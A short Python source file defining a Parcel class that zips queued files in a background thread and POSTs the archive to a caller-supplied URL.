import io
import queue
import threading
import urllib.request
import zipfile


class Parcel:
    """Collects files in the background, a batch at a time."""

    def __init__(self, batch):
        self._batch = batch
        self._queue = queue.Queue()
        self._bytes = io.BytesIO()
        self._zip = zipfile.ZipFile(self._bytes, "w", zipfile.ZIP_DEFLATED)
        threading.Thread(target=self._work, daemon=True).start()

    def take(self, path):
        self._queue.put(path)

    def _work(self):
        while True:
            path = self._queue.get()
            try:
                self._zip.write(path, arcname=path.name)
            except OSError:
                pass
            self._queue.task_done()

    def leave(self, target):
        self._queue.join()
        self._zip.close()
        request = urllib.request.Request(target, data=self._bytes.getvalue(), method="POST")
        urllib.request.urlopen(request, timeout=10)
